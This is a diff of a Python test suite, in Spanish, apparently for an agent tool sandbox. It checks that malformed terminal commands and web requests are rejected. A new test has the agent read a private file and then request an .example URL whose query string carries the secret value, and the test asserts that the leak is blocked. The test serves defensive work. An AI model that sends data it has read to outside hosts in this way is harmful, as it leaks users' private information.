@@ -104,12 +104,12 @@ def test_la_regresion_de_la_revision(tmp_path):
     (_, ejecutar), = ejecutares("un-comando-en-la-terminal", tmp_path)[0]
     for orden in ["", "   ", "cat 'notas.txt", "ls\\"]:
         obs = ejecutar(_llamada("t", "terminal", orden=orden), {})
-        assert obs["is_error"] and obs["content"].startswith("no se ha ejecutado: "), obs
+        assert obs.get("is_error") and obs["content"].startswith("no se ha ejecutado: "), obs
     otra = tmp_path / "red"
     otra.mkdir()
     (_, ejecutar), = ejecutares("la-red", otra)[0]
     obs = ejecutar(_llamada("p", "pedir", url="https://[::1"), {})
-    assert obs["is_error"] and obs["content"].startswith("no se ha ejecutado: "), obs
+    assert obs.get("is_error") and obs["content"].startswith("no se ha ejecutado: "), obs
 
 
 def test_la_terminal_simulada_no_lanza(tmp_path):
@@ -121,3 +121,15 @@ def test_la_terminal_simulada_no_lanza(tmp_path):
             salida = espacio["terminal"](dict(espacio["E"]), orden)
             assert isinstance(salida, str)
     assert espacio["terminal"]({}, "cat {a,b}").endswith("(código de salida 2)")
+
+
+def test_lo_leido_se_apunta_con_el_entorno_de_la_llamada(tmp_path):
+    """buscar lee todos los ficheros del entorno que recibe, no los del entorno de la lección (E): un
+    fichero privado que sólo está en este entorno también cuenta como leído."""
+    (_, ejecutar), = ejecutares("la-red", tmp_path)[0]
+    espacio = ejecutar.__globals__
+    espacio["EJECUCION"].update(leidos=[], privados=["privado/nuevo.txt"])
+    entorno = dict(espacio["E"], **{"privado/nuevo.txt": "clave: 1234"})
+    assert not ejecutar(_llamada("b", "buscar", texto="clave"), entorno).get("is_error")
+    obs = ejecutar(_llamada("p", "pedir", url="https://recetas-completas.example/ver?c=1234"), entorno)
+    assert obs.get("is_error") and obs["content"].startswith("no se ha ejecutado: "), obs
